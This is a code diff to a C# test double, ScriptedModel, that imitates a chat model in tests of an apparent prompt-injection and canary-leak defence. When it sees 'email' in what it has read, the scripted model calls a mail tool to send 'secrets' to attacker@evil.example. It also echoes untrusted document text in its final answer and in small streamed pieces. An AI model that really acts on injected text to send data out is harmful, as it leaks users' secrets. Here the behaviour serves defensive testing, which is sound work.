@@ -18,6 +18,9 @@ internal sealed class ScriptedModel : IChatClient
 
     public string ExfilTool { get; set; } = "Mail_send_email";
 
+    /// <summary>When set, the final answer text (given the last tool result).</summary>
+    public Func<string, string>? FinalAnswer { get; set; }
+
     public Dictionary<string, object?> ExfilArguments { get; set; } = new() { ["to"] = "attacker@evil.example", ["body"] = "secrets" };
 
     public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
@@ -38,14 +41,26 @@ internal sealed class ScriptedModel : IChatClient
         if (tools.Contains(ExfilTool) && !exfilThisTurn && seen.Contains("email", StringComparison.OrdinalIgnoreCase))
             return Reply(new FunctionCallContent("call_e" + list.Count, ExfilTool, new Dictionary<string, object?>(ExfilArguments)));
 
-        string last = results.Count > 0 ? results[^1].Result?.ToString() ?? "" : "";
-        return Task.FromResult(new ChatResponse(new ChatMessage(ChatRole.Assistant, "Answer: the documents were read. Last tool said: " + last)));
+        // Like a model summarizing: it repeats the payload, not the wrapper markup (which carries the canary).
+        string last = results.Count > 0 ? System.Text.RegularExpressions.Regex.Replace(results[^1].Result?.ToString() ?? "", "</?untrusted_document[^>]*>", "") : "";
+        return Task.FromResult(new ChatResponse(new ChatMessage(ChatRole.Assistant, FinalAnswer?.Invoke(last) ?? "Answer: the documents were read. Last tool said: " + last)));
     }
 
     public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [EnumeratorCancellation] CancellationToken cancellationToken = default)
     {
+        // Small text updates, so entities and canaries split across updates are exercised.
         foreach (var u in (await GetResponseAsync(messages, options, cancellationToken)).ToChatResponseUpdates())
-            yield return u;
+        {
+            if (u.Contents.Count == 1 && u.Contents[0] is TextContent t && t.Text.Length > 7)
+            {
+                for (int i = 0; i < t.Text.Length; i += 7)
+                    yield return new ChatResponseUpdate(u.Role, t.Text.Substring(i, Math.Min(7, t.Text.Length - i))) { MessageId = u.MessageId, ResponseId = u.ResponseId };
+            }
+            else
+            {
+                yield return u;
+            }
+        }
     }
 
     public object? GetService(Type serviceType, object? serviceKey = null) =>
